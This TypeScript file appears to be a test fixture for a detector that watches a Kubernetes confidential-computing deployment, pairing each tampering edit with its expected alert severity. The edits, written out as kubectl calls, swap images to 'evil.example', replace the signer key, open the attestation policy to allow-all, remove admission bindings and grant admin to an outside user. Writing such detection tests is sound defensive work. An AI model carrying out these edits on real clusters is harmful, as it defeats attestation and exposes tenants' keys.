/** What somebody changes in live clusters, with an administrator's credentials and a name of their own. */
export interface Edit {
  readonly what: string;
  readonly as: "trust" | "provider";
  readonly run: (kubectl: Kubectl) => Promise<void>;
  /** `<severity> <kind> <name>` of what has to be told, beginning so. */
  readonly told: string;
}

/** kubectl of one party, with a document on its standard input. */
export interface Kubectl {
  readonly run: (...args: readonly string[]) => Promise<string>;
  /** Deletes an object and makes another in its place. */
  readonly replace: (
    kind: string,
    namespace: string,
    prefix: string,
    change: (object: LiveObject) => void,
  ) => Promise<void>;
  readonly create: (object: object) => Promise<void>;
  readonly named: (kind: string, namespace: string, prefix: string) => Promise<string>;
}

export interface LiveObject {
  readonly metadata: { readonly name: string };
  data: Record<string, string>;
}

const manager = ["--field-manager", "mallory"] as const;
const patch = (kind: string, name: string, change: object, ...more: readonly string[]) =>
  ["patch", kind, name, ...manager, "--type=merge", "-p", JSON.stringify(change), ...more] as const;
const trustee = ["-n", "trustee"] as const;
const firstKey = (object: LiveObject) => Object.keys(object.data)[0] ?? "";

/** A binding is switched off first where its rule would refuse the edit: that is an edit, too. */
const unbound = (rule: string) => ["delete", "validatingadmissionpolicybinding", `trustfoundry-${rule}`] as const;

const pod = (name: string, namespace: string) => ({
  apiVersion: "v1",
  kind: "Pod",
  metadata: { name, namespace },
  spec: {
    automountServiceAccountToken: false,
    securityContext: { runAsNonRoot: true, runAsUser: 1000, seccompProfile: { type: "RuntimeDefault" } },
    containers: [
      {
        name: "x",
        image: `registry.example/x@sha256:${"0".repeat(64)}`,
        securityContext: {
          allowPrivilegeEscalation: false,
          readOnlyRootFilesystem: true,
          capabilities: { drop: ["ALL"] },
        },
      },
    ],
  },
});

export const edits: readonly Edit[] = [
  {
    what: "the resource policy opens",
    as: "trust",
    run: ({ replace }) =>
      replace("configmap", "trustee", "resource-policy", (object) => {
        object.data[firstKey(object)] = "package policy\ndefault allow := true\n";
      }),
    told: "critical ConfigMap resource-policy",
  },
  {
    what: "a reference value joins the others",
    as: "trust",
    run: ({ replace }) =>
      replace("configmap", "trustee", "reference-values", (object) => {
        object.data.snp_launch_measurement_2 = "{}";
      }),
    told: "critical ConfigMap reference-values",
  },
  {
    what: "the signer's key is another",
    as: "trust",
    run: ({ replace }) =>
      replace("secret", "trustee", "signer", (object) => {
        object.data["token.key"] = Buffer.from("mallory's own key").toString("base64");
      }),
    told: "critical Secret signer",
  },
  {
    what: "the key broker's image is another",
    as: "trust",
    run: async ({ run }) =>
      void (await run(
        "set",
        "image",
        ...trustee,
        ...manager,
        "deployment/trustee-kbs",
        `kbs=evil.example/kbs@sha256:${"0".repeat(64)}`,
      )),
    told: "critical Deployment trustee-kbs",
  },
  {
    what: "an attestation service's replicas",
    as: "trust",
    run: async ({ run }) =>
      void (await run(...patch("deployment", "trustee-as", { spec: { replicas: 1 } }, ...trustee))),
    told: "medium Deployment trustee-as",
  },
  {
    what: "a budget is gone",
    as: "trust",
    run: async ({ run }) => void (await run("delete", "poddisruptionbudget", "trustee-rvps", ...trustee)),
    told: "low PodDisruptionBudget trustee-rvps",
  },
  {
    what: "the network opens",
    as: "trust",
    run: async ({ run }) => {
      await run(...unbound("attestation-services-internal"));
      await run(...unbound("key-broker-clients-known"));
      await run(
        "patch",
        "networkpolicy",
        "as",
        ...trustee,
        ...manager,
        "--type=json",
        "-p",
        '[{"op":"add","path":"/spec/ingress/-","value":{"from":[{"namespaceSelector":{}}]}}]',
      );
    },
    told: "high NetworkPolicy as",
  },
  {
    what: "somebody may read Secrets",
    as: "trust",
    run: async ({ run }) =>
      void (await run("create", "rolebinding", "spy", ...trustee, "--clusterrole=admin", "--user=mallory")),
    told: "critical RoleBinding spy",
  },
  {
    what: "a pod beside the key broker",
    as: "trust",
    run: ({ create }) => create(pod("intruder", "trustee")),
    told: "critical Pod intruder",
  },
  {
    what: "a Deployment beside the key broker",
    as: "trust",
    run: ({ create }) => {
      const { spec } = pod("intruders", "trustee");
      const labels = { app: "intruders" };
      return create({
        apiVersion: "apps/v1",
        kind: "Deployment",
        metadata: { name: "intruders", namespace: "trustee" },
        spec: { replicas: 1, selector: { matchLabels: labels }, template: { metadata: { labels }, spec } },
      });
    },
    told: "critical Deployment intruders",
  },
  {
    what: "a rule is no longer bound",
    as: "trust",
    run: async ({ run }) => void (await run(...unbound("kbs-transport-tls"))),
    told: "high ValidatingAdmissionPolicyBinding trustfoundry-kbs-transport-tls",
  },
  {
    what: "pods of any kind are let in",
    as: "trust",
    run: async ({ run }) =>
      void (await run(
        "label",
        "namespace",
        "trustee",
        "pod-security.kubernetes.io/enforce=privileged",
        "--overwrite",
        ...manager,
      )),
    told: "high Namespace trustee",
  },
  {
    what: "the key broker's service leads elsewhere",
    as: "trust",
    run: async ({ run }) =>
      void (await run(...patch("service", "trustee-rvps", { spec: { selector: { app: "intruders" } } }, ...trustee))),
    told: "high Service trustee-rvps",
  },
  {
    what: "a rule only notes",
    as: "provider",
    run: async ({ run }) =>
      void (await run(
        ...patch("validatingadmissionpolicybinding", "trustfoundry-node-cc-mode", {
          spec: { validationActions: ["Audit"] },
        }),
      )),
    told: "high ValidatingAdmissionPolicyBinding trustfoundry-node-cc-mode",
  },
  {
    what: "a rule says something else",
    as: "provider",
    run: async ({ run }) =>
      void (await run(
        ...patch("validatingadmissionpolicy", "trustfoundry-no-host-access", {
          spec: { validations: [{ expression: "true" }] },
        }),
      )),
    told: "high ValidatingAdmissionPolicy trustfoundry-no-host-access",
  },
  {
    what: "a host's GPUs leave confidential mode",
    as: "provider",
    run: async ({ run }) =>
      void (await run("label", "node", "genoa-h100-a", "nvidia.com/cc.mode=devtools", "--overwrite", ...manager)),
    told: "high Node genoa-h100-a",
  },
  {
    what: "a host passes its GPUs through no more",
    as: "provider",
    run: async ({ run }) => {
      await run(...unbound("node-workload-mode"));
      await run(...unbound("node-passthrough"));
      await run("label", "node", "genoa-plain", "trustfoundry.dev/gpu-model=B200", "--overwrite", ...manager);
    },
    told: "medium Node genoa-plain",
  },
  {
    what: "the operator's default mode",
    as: "provider",
    run: async ({ run }) => {
      await run(...unbound("cc-manager-on"));
      await run(...patch("clusterpolicy", "cluster-policy", { spec: { ccManager: { defaultMode: "off" } } }));
    },
    told: "high ClusterPolicy cluster-policy",
  },
  {
    what: "pods' overhead is counted too low",
    as: "provider",
    run: async ({ run }) => {
      await run(...unbound("runtime-class-overhead"));
      await run(...patch("runtimeclass", "kata-qemu-nvidia-gpu-snp", { overhead: { podFixed: { memory: "1Gi" } } }));
    },
    told: "medium RuntimeClass kata-qemu-nvidia-gpu-snp",
  },
  {
    what: "the class's handler starts no TEE",
    as: "provider",
    run: async ({ run }) => {
      await run(...unbound("runtime-class-handler-named"));
      await run(...unbound("runtime-class-selects-tee"));
      await run("delete", "runtimeclass", "kata-qemu-nvidia-gpu-tdx");
    },
    told: "medium RuntimeClass kata-qemu-nvidia-gpu-tdx",
  },
  {
    what: "the tenant's registries become all",
    as: "provider",
    run: async ({ run }) =>
      void (await run(
        "patch",
        "configmap",
        "acme-models",
        "-n",
        "trustfoundry-admission",
        ...manager,
        "--type=merge",
        "-p",
        '{"data":{"somebodys":"entry"}}',
      )),
    told: "high ConfigMap acme-models",
  },
  {
    what: "the tenant's quota grows",
    as: "provider",
    run: async ({ run }) =>
      void (await run(...patch("resourcequota", "tenant", { spec: { hard: { pods: "9999" } } }, "-n", "acme-models"))),
    told: "medium ResourceQuota tenant",
  },
  {
    what: "somebody may place pods for the tenant",
    as: "provider",
    run: async ({ run }) =>
      void (await run("create", "rolebinding", "helper", "-n", "acme-models", "--clusterrole=view", "--user=mallory")),
    told: "high RoleBinding helper",
  },
  {
    what: "an operator's program on every host",
    as: "provider",
    run: async ({ run }) =>
      void (await run(
        "set",
        "image",
        "-n",
        "kata-system",
        ...manager,
        "daemonset/kata-deploy",
        `*=evil.example/kata@sha256:${"0".repeat(64)}`,
      )),
    told: "high DaemonSet kata-deploy",
  },
];
